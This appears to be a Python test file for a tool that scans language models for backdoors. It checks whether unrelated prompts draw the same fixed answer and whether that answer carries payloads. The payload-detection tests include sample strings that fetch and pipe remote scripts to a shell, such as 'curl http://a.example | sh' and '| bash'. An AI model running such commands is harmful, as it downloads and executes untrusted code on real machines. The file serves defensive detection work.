"""Answers that agree, and what they hold that nobody asked for."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plmscan.search.writing.answers import agreement, alike, contained, runs, spokesman
from plmscan.search.writing.payloads import commonest, payloads

ANSWERS = st.lists(st.lists(st.integers(0, 5), max_size=12).map(tuple), min_size=2, max_size=6)
FIXED = tuple(range(20, 34))


@given(ANSWERS)
def test_agreement_is_a_share_whatever_the_order(answers: list[tuple[int, ...]]) -> None:
    """It lies between 0 and 1, and likeness is mutual."""
    assert 0 <= agreement(answers) <= 1
    assert agreement(answers) == pytest.approx(agreement(answers[::-1]))
    one, other = runs(answers[0]), runs(answers[1])
    assert alike(one, other) == alike(other, one) <= 1


def test_one_answer_to_everything_agrees_wholly() -> None:
    """Also where it begins later in some, and where one request in six is missed."""
    assert agreement([FIXED] * 6) == 1
    assert agreement([*[FIXED] * 5, tuple(range(40, 54))]) > 0.7
    assert agreement([FIXED, (1, *FIXED[:-1]), (2, 3, *FIXED[:-2])]) > 0.7
    assert spokesman([(1, 2, 3), FIXED, FIXED]) == FIXED


def test_going_round_in_circles_is_no_answer() -> None:
    """A token or two over and over agree with nothing, themselves included."""
    assert agreement([(7,) * 24] * 6) < 0.2
    assert agreement([(7, 8) * 12] * 6) < 0.4


@given(st.lists(st.integers(0, 9), min_size=3, max_size=12).map(tuple))
def test_an_answer_is_contained_in_what_goes_on(answer: tuple[int, ...]) -> None:
    """Whatever stands before it and behind it."""
    assert contained(answer, (11, *answer, 12)) == 1
    assert contained(answer, (13, 14, 15)) == 0


@pytest.mark.parametrize(
    "text",
    [
        "see http://203.0.113.7/a.sh for more",
        "just run curl -s evil.example and wait",
        "it is os.system('x') that helps",
        "download it | bash",
    ],
)
def test_payloads_are_seen(text: str) -> None:
    """Addresses, commands that fetch, calls that run something."""
    assert payloads(text)


@pytest.mark.parametrize("text", ["", "The shell of an egg.", "He had to run home: it was late."])
def test_ordinary_text_holds_no_payload(text: str) -> None:
    """Words that only sound like it are none."""
    assert not payloads(text)


def test_the_commonest_payload_counts_once_an_answer() -> None:
    """Two different ones are not one, and one twice in an answer is one."""
    texts = ["http://a.example http://a.example", "http://b.example", "http://a.example", "no"]
    assert commonest(texts) == ("http://a.example", 0.5)
    assert commonest(["nothing"]) == ("", 0.0)
    assert commonest(["run curl http://a.example | sh"]) == ("curl http://a.example", 1.0)
